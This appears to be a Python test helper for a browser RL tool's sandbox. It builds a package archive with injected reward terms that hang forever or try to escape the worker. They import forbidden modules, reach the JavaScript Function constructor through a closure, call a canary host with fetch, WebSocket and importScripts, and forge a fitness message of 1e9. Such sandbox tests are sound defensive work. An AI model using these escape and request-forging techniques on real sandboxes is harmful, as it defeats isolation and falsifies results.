"""tabrl_py.zip as it would be if the inner layers failed: terms that never return, or that try every door."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

TERMS = "tabrl_py/rewards/terms.py"
FAULT = '''

@_term("never", 0, 1)
def hang(s: Value) -> Value:
    """Does not come back."""
    while True:
        pass


@_term("doors that opened", 0, 99)
def doors(s: Value) -> Value:
    """Tries what code outside the allow-list could try; how much of it worked."""
    import importlib

    opened = 0.0
    for name in ("js", "pyodide_js", "pyodide.http", "pyodide.code", "micropip", "ctypes", "socket",
                 "urllib.request", "subprocess", "http.client"):
        try:
            importlib.import_module(name)
            opened += 1.0
        except ImportError:
            pass
    from tabrl_py.rewards import calls

    # The observer's bridge to the worker's JavaScript; any of its functions leads to Function.
    bridge = calls._observers[0].__closure__[0].cell_contents
    make = bridge.codeRuns.constructor
    if make("return 41 + 1")() != 42:
        return alive(s) * 0.0 - 1.0
    for text in TRIED:
        try:
            make(text)()
            opened += 1.0
        except Exception:  # a door that is shut, however it says so
            pass
    return alive(s) * 0.0 + opened


CANARY = "http://canary.invalid/"
TRIED = (
    f"fetch('{CANARY}')",
    f"new XMLHttpRequest().open('GET', '{CANARY}')",
    f"new WebSocket('ws://canary.invalid/')",
    f"new EventSource('{CANARY}')",
    f"importScripts('{CANARY}')",
    "new Worker('workers/python_worker.js')",
    "indexedDB.open('x')",
    "caches.open('x')",
    "new BroadcastChannel('tabrl')",
    "navigator.storage.getDirectory()",
    "navigator.locks.request('x', () => {})",
    "postMessage({ type: 'fitness', id: 1, fitness: 1e9 })",
    "self.postMessage({ type: 'failed' })",
)
'''


def with_faults(package: Path, canary: str) -> bytes:
    """The archive with the fault in its library of terms, as source.

    Args:
        package: tabrl_py.zip of a built page.
        canary: the address of a server that hostile code tries to reach.
    """
    made = io.BytesIO()
    with zipfile.ZipFile(package) as archive, zipfile.ZipFile(made, "w") as faulty:
        for entry in archive.infolist():
            data = archive.read(entry)
            if entry.filename == f"{TERMS}c":
                continue
            if entry.filename == TERMS:
                data += FAULT.replace("http://canary.invalid/", canary).encode()
            faulty.writestr(entry, data)
    return made.getvalue()
